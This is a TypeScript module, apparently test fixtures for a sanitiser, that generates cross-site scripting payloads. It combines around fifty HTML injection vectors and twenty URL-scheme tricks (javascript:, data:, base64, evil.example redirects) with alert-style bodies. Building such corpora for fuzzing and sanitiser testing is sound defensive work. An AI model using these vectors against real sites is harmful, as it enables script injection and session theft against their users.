/** Ways to bring a script into a page that have been published, each with what it hides behind. */
const bodies = ['alert(1)', 'alert`1`', 'confirm(1)', 'eval(name)', 'top.alert(1)'] as const

/** Elements, each with the place for a script's body. */
const elements = [
  '<script>X</script>',
  '<ScRiPt>X</sCrIpT>',
  '<script/x>X</script>',
  '"><script>X</script>',
  "'><script>X</script>",
  '</title><script>X</script>',
  '</textarea><script>X</script>',
  '--><script>X</script>',
  ']]><script>X</script>',
  '<img src=x onerror=X>',
  '<img src=x onerror="X"//',
  '<img/src=x/onerror=X>',
  '<svg onload=X>',
  '<svg/onload=X>',
  '<svg><script>X</script></svg>',
  '<svg><animate onbegin=X attributeName=x dur=1s>',
  '<body onload=X>',
  '<iframe src="javascript:X">',
  '<iframe srcdoc="<script>X</script>">',
  '<details open ontoggle=X>',
  '<video><source onerror=X></video>',
  '<audio src=x onerror=X>',
  '<input autofocus onfocus=X>',
  '<select autofocus onfocus=X>',
  '<marquee onstart=X>',
  '<object data="javascript:X">',
  '<embed src="javascript:X">',
  '<a href="javascript:X">x</a>',
  '<a href="java&#9;script:X">x</a>',
  '<form action="javascript:X"><button>x</button></form>',
  '<math><mtext><style><img src onerror=X></style></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=X>">',
  '<link rel=stylesheet href="javascript:X">',
  '<meta http-equiv=refresh content="0;url=javascript:X">',
  '<base href="javascript:X//">',
  '" onmouseover="X" x="',
  "' onfocus='X' autofocus '",
  '\u2028<script>X</script>',
  '&lt;script&gt;X&lt;/script&gt;<b onclick=X>',
  '{{constructor.constructor("X")()}}<p onpointerenter=X>',
  '<<script>X//<</script>',
  '<script src=data:text/javascript,X></script>',
  '<xss onclick="X" tabindex=1 style=display:block>x</xss>',
  '<svg><a xlink:href="javascript:X"><text y=20>x</text></a></svg>',
  '<template><script>X</script></template><img src onerror=X>',
  '<dialog open onclose=X><form method=dialog><button>x</button></form></dialog>',
  '<input type=hidden oncontentvisibilityautostatechange=X style=content-visibility:auto>',
  '<button popovertarget=x>x</button><xss id=x popover onbeforetoggle=X>x</xss>',
  '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="X"></xss>',
  '<math><mi//xlink:href="data:x,<script>X</script>">',
] as const

/** Hiding places of an address. */
const addresses = [
  'javascript:X',
  'JaVaScRiPt:X',
  ' javascript:X',
  'java\tscript:X',
  'java\nscript:X',
  '\u0001javascript:X',
  'javascript://%0aX',
  'data:text/html,<script>X</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=X>',
  'vbscript:X',
  'blob:https://court.example/X',
  '//evil.example/X',
  '/\\evil.example/X',
  '\\\\evil.example/X',
  'http://evil.example/X',
  'https:evil"onerror=X x="',
  'https://x y/" onclick=X',
  'view-source:javascript:X',
  'feed:javascript:X',
] as const

const filled = (texts: readonly string[], offset: number) =>
  texts.map((text, index) => text.replaceAll('X', bodies[(index + offset) % bodies.length] ?? ''))

/** For texts: each element with two bodies. */
export const textPayloads: readonly string[] = [...filled(elements, 0), ...filled(elements, 2)]
/** For addresses. */
export const addressPayloads: readonly string[] = filled(addresses, 1)

/** As many in a text as the shortest of them may be long: each but the first behind another one. */
export function textsOf(payloads: readonly string[], lengthMax: number): string[][] {
  const texts: string[][] = [[]]
  for (const payload of payloads) {
    const last = texts.at(-1) ?? []
    if ([...last, payload].join(' ').length <= lengthMax) last.push(payload)
    else texts.push([payload])
  }
  return texts
}
